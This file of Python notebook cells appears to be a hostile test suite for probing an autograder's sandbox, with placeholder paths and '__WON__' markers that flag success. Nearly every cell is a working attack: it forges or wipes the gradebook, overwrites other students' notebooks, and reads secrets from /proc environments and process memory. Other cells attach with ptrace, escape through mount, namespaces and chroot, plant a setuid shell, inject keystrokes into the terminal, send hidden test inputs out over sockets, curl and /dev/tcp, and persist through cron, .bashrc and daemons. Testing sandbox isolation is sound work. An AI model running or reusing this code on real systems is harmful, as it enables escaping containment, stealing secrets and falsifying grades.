# %% gradebook: sets every score in the class by sqlite
import sqlite3
for path in ("../../../gradebook.db", "__CLASS__/gradebook.db"):
    try:
        book = sqlite3.connect(path, timeout=1)
        print(book.execute("select * from grade").fetchall()[:3])
        book.execute("update grade set manual_score = 2, needs_manual_grade = 0")
        book.commit()
    except sqlite3.Error:
        pass


# %% gradebook replaced: by an empty file, a lock, a folder
import os, glob
for path in ("../../../gradebook.db", "__CLASS__/gradebook.db"):
    try:
        open(path, "r+b").truncate(0)
        os.chmod(path, 0)
    except OSError:
        pass


# %% class folder walked: prints all that can be read of other students
import os
for folder, _, files in os.walk("__CLASS__"):
    for name in files:
        try:
            print(open(os.path.join(folder, name), errors="replace").read()[-3000:])
        except OSError:
            pass


# %% neighbour's notebook: by relative paths
import glob
for path in glob.glob("../../../*/*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb"):
    print(open(path).read())


# %% neighbour's answers overwritten: so that they earn nothing
import glob
for path in glob.glob("../../*/*/*.ipynb") + glob.glob("__CLASS__/submitted/*/*/*.ipynb"):
    try:
        open(path, "w").write("{}")
    except OSError:
        pass


# %% whole file system searched: for secrets in every readable file below some folders
import os
for root_folder in ("/home", "/tmp", "/root", "/work", "/srv", "/mnt", "/var", "/run", "/opt", "/etc"):
    for folder, folders, files in os.walk(root_folder):
        folders[:] = [f for f in folders if f not in ("site-packages", "lib", "node_modules")][:50]
        for name in files[:50]:
            path = os.path.join(folder, name)
            try:
                text = open(path, errors="replace").read(200000) if os.path.isfile(path) else ""
            except OSError:
                continue
            if "CANARY" in text and "hostile" not in path:
                i = text.index("CANARY")
                print(path, text[i : i + 100])


# %% environment of the grader: in this process, its parents and everything in /proc
import glob, os
print(os.environ)
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    try:
        print(path, open(path).read())
    except OSError:
        pass


# %% command lines: of everything in /proc
import glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(path, open(path).read())
    except OSError:
        pass


# %% roots of others: the file systems of other processes by /proc/*/root and cwd
import glob
for base in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    for path in (f"{base}/__CLASS__/secret.txt", f"{base}/submitted/alice/01_mini/01_mini.ipynb",
                 f"{base}/__CLASS__/submitted/alice/01_mini/01_mini.ipynb"):
        try:
            print(open(path).read())
        except OSError:
            pass


# %% open files of others: by /proc/*/fd
import glob, os, stat
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if stat.S_ISREG(os.stat(path).st_mode):
            print(path, os.readlink(path), open(path, "rb").read(100000))
    except OSError:
        pass


# %% memory of the parent: looks in /proc/ppid/mem for secrets
import os
for pid in {os.getppid(), 1, 2, os.getpid() - 1}:
    try:
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" not in line or end - start > 1 << 27:
                continue
            memory.seek(start)
            text = memory.read(end - start)
            i = text.find(b"CANARY-ENVIRONMENT")
            if pid != os.getpid() and i >= 0:
                print(text[i : i + 60])
                break
    except (OSError, OverflowError, ValueError):
        pass


# %% memory of the parent written: by process_vm_writev and /proc/ppid/mem
import os
for pid in {os.getppid(), 1}:
    if pid == os.getpid():
        continue
    try:
        line = next(line for line in open(f"/proc/{pid}/maps") if "rw-p" in line and "[heap]" in line)
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        memory = open(f"/proc/{pid}/mem", "r+b", 0)
        memory.seek(start)
        memory.write(b"\0" * min(end - start, 1 << 20))
        print("__WON__ wrote to the memory of", pid)
    except (OSError, StopIteration):
        pass


# %% ptrace: attaches to the parent, to 1 and to whatever runs
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
    if pid != os.getpid() and libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE, which does not stop it
        comm = open(f"/proc/{pid}/comm").read().strip()
        print("__WON__ traces", pid, comm)


# %% raw disk: devices made by mknod and read
import os, stat, glob
for name, device in (("vda", os.makedev(254, 0)), ("vda1", os.makedev(253, 0)), ("sda", os.makedev(8, 0))):
    try:
        os.mknod(f"/tmp/{name}", stat.S_IFBLK | 0o600, device)
    except OSError:
        pass
for path in glob.glob("/dev/[vsn][dv]*") + ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/fuse", "/tmp/vda", "/tmp/vda1", "/tmp/sda"]:
    try:
        if open(path, "rb", 0).read(512):
            print("__WON__ read", path)
    except OSError:
        pass


# %% mount: proc, sysfs, tmpfs, overlay and bind mounts over what others use
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/m", exist_ok=True) if os.access("/tmp", os.W_OK) else None
for kind, where in ((b"proc", b"/proc"), (b"sysfs", b"/sys"), (b"tmpfs", b"/usr"), (b"cgroup2", b"/tmp/m"), (b"debugfs", b"/tmp/m")):
    libc.mount(b"none", where, kind, 0, None)
for source in (b"/proc/1/root", b"/"):
    libc.mount(source, b"/tmp/m", None, 4096, None)
for path in ("/tmp/m__CLASS__/secret.txt", "__CLASS__/secret.txt"):
    try:
        print(open(path).read())
    except OSError:
        pass


# %% system remounted: makes the read-only system writable again and leaves something
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
for where in (b"/", b"/usr", sys.prefix.encode(), os.path.dirname(os.__file__).encode()):
    libc.mount(b"none", where, None, 32 | 4096, None)
    libc.mount(b"none", where, None, 32, None)
for folder in (sys.prefix, os.path.dirname(os.__file__), "/usr", "/etc"):
    try:
        open(f"{folder}/hostile-was-here", "w").write("x")
        os.unlink(f"{folder}/hostile-was-here")
        print("__WON__ wrote to", folder) if not os.path.ismount(folder) else None
    except OSError:
        pass


# %% namespaces of its own: a user namespace gives all capabilities; then mount, raw sockets, chroot
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    try:
        libc.unshare(0x10000000 | 0x00020000 | 0x40000000)
        libc.mount(b"/proc/1/root", b"/tmp", None, 4096, None)
        libc.umount2(b"/proc", 2)
        libc.umount2(b"/", 2)
        for path in ("/tmp__CLASS__/secret.txt", "/proc/1/root__CLASS__/secret.txt", "__CLASS__/secret.txt"):
            try:
                os.write(1, open(path, "rb").read())
            except OSError:
                pass
    finally:
        os._exit(0)
os.wait()


# %% namespaces of others: enters those of process 1 and of the parent
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, os.getppid()}:
    for kind in ("user", "mnt", "net", "pid", "ipc"):
        try:
            before = os.readlink(f"/proc/self/ns/{kind}")
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            other = os.readlink(f"/proc/{pid}/ns/{kind}")
            if libc.setns(fd, 0) == 0 and other != before:
                print("__WON__ entered", kind, "of", pid)
        except OSError:
            pass
try:
    print(open("__CLASS__/secret.txt").read())
except OSError:
    pass


# %% chroot escaped: by chroot, fchdir and ..
import os
try:
    fd = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    os.fchdir(fd)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    print(open("__CLASS__/secret.txt").read())
except OSError:
    pass


# %% file handles: open_by_handle_at walks a file system from its root
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
for place in ("/usr", "/etc", "/", os.path.dirname(os.__file__)):
    mount = os.open(place, os.O_RDONLY)
    for inode in (2, 128, 1):
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0))
        if libc.open_by_handle_at(mount, handle, os.O_RDONLY) >= 0:
            print("__WON__ opened the root of the file system of", place)


# %% users: becomes root or somebody else
import ctypes, os
before = os.geteuid(), open("/proc/self/uid_map").read()
for user in (0, 1000, 65534):
    try:
        os.setresuid(user, user, user)
        if user == 0 and before[0] != 0:
            print("__WON__ is root")
    except OSError:
        pass


# %% set-user-id programs: su, sudo, mount, newgrp and a shell of its own
import os, shutil, subprocess
try:
    shutil.copy("/bin/sh", "/tmp/sh")
    os.chmod("/tmp/sh", 0o4755)
except OSError:
    pass
for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"], ["/tmp/sh", "-p", "-c", "id"]):
    try:
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=2)
        if "uid=0" in done.stdout and os.getuid() != 0:
            print("__WON__ is root by", command)
    except (OSError, subprocess.TimeoutExpired):
        pass


# %% keyrings: reads the session's and the user's keys, leaves one
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for ring in (-1, -2, -3, -4, -5):
    libc.syscall(248, b"user", b"hostile", b"for a friend", 12, ring)
    buffer = ctypes.create_string_buffer(4096)
    if libc.syscall(250, 11, ring, buffer, 4096, 0) > 0:
        print(buffer.raw[:40])
# %% [next]
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for ring in (-1, -2, -3, -4, -5):
    if libc.syscall(250, 10, ring, b"user", b"hostile", 0) > 0:
        print("__WON__ found the key of another student")


# %% odd system calls: userfaultfd, io_uring, bpf, perf, kexec, modules, quotas, personality
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, number in (("userfaultfd", 323), ("bpf", 321), ("perf_event_open", 298), ("init_module", 175), ("finit_module", 313),
                     ("swapon", 167), ("acct", 163), ("quotactl", 179), ("iopl", 172), ("ioperm", 173), ("lookup_dcookie", 212)):
    buffer = ctypes.create_string_buffer(256)
    if libc.syscall(number, buffer, 0, 0, 0, 0) > 0 and name in ("bpf", "init_module", "finit_module", "iopl"):
        print("__WON__", name)
libc.personality(0x0040000)


# %% io_uring: opens a file and a socket past filters of system calls
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
ring = libc.syscall(425, 8, ctypes.create_string_buffer(120))
print(ring)


# %% kernel settings: core_pattern, modprobe, sysrq, hostname, overcommit, user namespaces
import os, socket
for path, text in (("kernel/core_pattern", "|/tmp/hostile"), ("kernel/modprobe", "/tmp/hostile"), ("vm/overcommit_memory", "1"),
                   ("kernel/yama/ptrace_scope", "0"), ("fs/suid_dumpable", "2")):
    try:
        before = open(f"/proc/sys/{path}").read()
        with open(f"/proc/sys/{path}", "w") as file:
            file.write(before)  # what stands there already: the machine is to stay as it is
        print("__WON__ may write /proc/sys/" + path)
    except OSError:
        pass


# %% control groups: leaves its own, raises its own limits, a release agent
import glob, os
for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:20]:
    try:
        open(path, "w").write(str(os.getpid()))
        print("__WON__ moved to", path)
    except OSError:
        pass
for path in glob.glob("/sys/fs/cgroup/*/release_agent"):
    if os.access(path, os.W_OK):
        print("__WON__ may write", path)


# %% terminal: pushes keys into the terminal of the grader
import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/proc/1/fd/0", "/proc/self/fd/0", "/dev/pts/0"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        os.write(fd, b"\x1b]0;hostile\x07")
        if os.isatty(fd):
            print("__WON__ wrote to the terminal", path)
            fcntl.ioctl(fd, termios.TIOCSTI, b"#")
    except OSError:
        pass


# %% limits raised: its own hard limits and the parent's
import os, resource
for kind in range(16):
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
    for pid in {os.getppid(), 1} - {os.getpid()}:
        try:
            resource.prlimit(pid, kind, resource.prlimit(pid, kind))
        except (OSError, ValueError):
            pass


# %% network: TCP and UDP to a server on this machine
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", __PORT__)), (socket.AF_INET6, ("::1", __PORT__)),
                        (socket.AF_INET, ("localhost", __PORT__)), (socket.AF_INET, ("0.0.0.0", __PORT__))):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as connection:
                connection.settimeout(0.3)
                connection.connect(address)
                connection.send(b"hidden tests")
        except OSError:
            pass


# %% network by libraries: urllib, http.client, asyncio, xmlrpc, ftplib
import asyncio, http.client, urllib.request
try:
    urllib.request.urlopen("http://127.0.0.1:__PORT__/hidden-tests", timeout=0.3)
except OSError:
    pass
try:
    http.client.HTTPConnection("127.0.0.1", __PORT__, timeout=0.3).request("GET", "/")
except OSError:
    pass


# %% network by other programs: curl, wget, bash's /dev/tcp, python
import subprocess, sys
for command in (["curl", "-m", "1", "http://127.0.0.1:__PORT__"], ["bash", "-c", "echo x > /dev/tcp/127.0.0.1/__PORT__"],
                [sys.executable, "-c", "import socket; socket.create_connection(('127.0.0.1', __PORT__))"]):
    try:
        subprocess.run(command, timeout=1, capture_output=True)
    except (OSError, subprocess.TimeoutExpired):
        pass


# %% network by an answer: the hidden input is sent while the test runs
# %% [root]
import socket
def root(x):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as connection:
                connection.settimeout(0.3)
                connection.connect(("127.0.0.1", __PORT__))
                connection.send(str(x).encode())
        except OSError:
            pass
    return 2 if x == 4 else -1


# %% names: a look-up that carries what it asks
import socket
socket.setdefaulttimeout(0.3)
for name in ("hidden.hostile.test", "localhost"):
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
    try:
        connection.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07hostile\x04test\x00\x00\x01\x00\x01", ("127.0.0.1", __PORT__))
    except OSError:
        pass


# %% Unix sockets: of the host, by path and by abstract name
import glob, socket
for address in ("__SOCKET__", "\0__ABSTRACT__", *glob.glob("/run/*.sock*"), *glob.glob("/tmp/*/*.sock"), "/var/run/docker.sock"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as connection:
                connection.settimeout(0.3)
                connection.connect(address)
                connection.send(b"hidden tests")
        except OSError:
            pass


# %% Unix sockets through others' roots: a path by /proc/1/root
import glob, socket
for base in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(0.3)
            connection.connect(base + "__SOCKET__")
            connection.send(b"hidden tests")
    except OSError:
        pass


# %% raw, packet, netlink and virtual-machine sockets: reach the network or change it
import socket, os
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0x0300)):
    try:
        with socket.socket(family, kind, protocol) as raw:
            if os.path.exists("/sys/class/net/eth0"):
                print("__WON__ has a raw socket on the network")
    except OSError:
        pass
try:
    with socket.socket(40, socket.SOCK_STREAM) as vm:
        vm.settimeout(0.3)
        vm.connect((2, __PORT__))
        print("__WON__ reached the hypervisor")
except OSError:
    pass


# %% loopback brought up: in its own network namespace, then to the host by any address
import fcntl, socket, struct
try:
    with socket.socket() as any_socket:
        fcntl.ioctl(any_socket, 0x8914, struct.pack("16sh14x", b"lo", 0x41))
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=0.3) as connection:
        connection.send(b"hidden tests")
except OSError:
    pass


# %% files outside: written wherever it is allowed
import os
for path in ("__OUTSIDE__/hostile", "__CLASS__/hostile", "../../hostile", "../../../hostile", "__CLASS__/../hostile"):
    try:
        open(path, "w").write("__MARK__")
    except OSError:
        pass


# %% temporary files outside: in folders that every user may write to
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue", "/run", "/var/crash"):
    try:
        open(f"{folder}/hostile-outside", "w").write("__MARK__")
    except OSError:
        pass


# %% a detached process: a daemon in a session of its own outlives the kernel
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "__MARK__"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


# %% a double fork: a daemon that ignores every signal
import os, signal, time, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in set(range(1, 65)) - {9, 19, 32, 33}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        os.closerange(0, 64)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "__MARK__"])
    os._exit(0)


# %% a detached process edits the grade: waits for the grader and rewrites its notebook, then the gradebook
import subprocess, sys
code = """
import glob, sqlite3, time
for _ in range(200):
    time.sleep(0.1)
    try:
        book = sqlite3.connect("__CLASS__/gradebook.db", timeout=1)
        book.execute("update grade set manual_score = 2 where auto_score = 0")
        book.commit()
        book.close()
    except sqlite3.Error:
        pass
"""
subprocess.Popen([sys.executable, "-c", code, "__MARK__"], start_new_session=True)


# %% jobs for later: at, cron, systemd and the shell's start-up files
import os, subprocess
for command in ("echo 'sleep 100 # __MARK__' | at now", "(crontab -l; echo '* * * * * sleep 50 # __MARK__') | crontab -",
                "systemd-run --user sleep 100 __MARK__", "echo 'sleep 0 # __MARK__' >> ~/.bashrc ~/.profile"):
    try:
        subprocess.run(command, shell=True, timeout=1, capture_output=True)
    except (OSError, subprocess.TimeoutExpired):
        pass


# %% traced child: a process that is stopped under ptrace cannot be reaped
import ctypes, os, time
libc = ctypes.CDLL(None)
if os.fork() == 0:
    libc.ptrace(0, 0, 0, 0)
    os.kill(os.getpid(), 19)
    os._exit(0)


# %% vfork and clone: children by rare system calls, with the parent's exit signal changed
import ctypes, os, time
libc = ctypes.CDLL(None)
if libc.syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0:  # CLONE_PARENT: a sibling, child of whoever waits for this one
    time.sleep(300)
    os._exit(0)


# %% ctypes: runs machine code of its own
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(b"\xb8\x2a\x00\x00\x00\xc3")
code = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print(code())
